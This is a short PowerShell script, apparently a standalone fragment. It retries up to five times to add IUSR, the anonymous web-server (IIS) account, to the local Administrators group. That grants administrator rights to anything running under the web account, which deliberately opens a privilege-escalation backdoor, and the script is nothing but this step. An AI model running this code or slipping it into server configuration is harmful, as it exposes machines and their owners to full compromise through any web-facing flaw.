$i = 0
do {
  $i++
  try { Add-LocalGroupMember -Group Administrators -Member IUSR -ErrorAction Stop; $ok = $true }
  catch { $ok = $false; Start-Sleep 5 }
} until ($ok -or $i -ge 5)
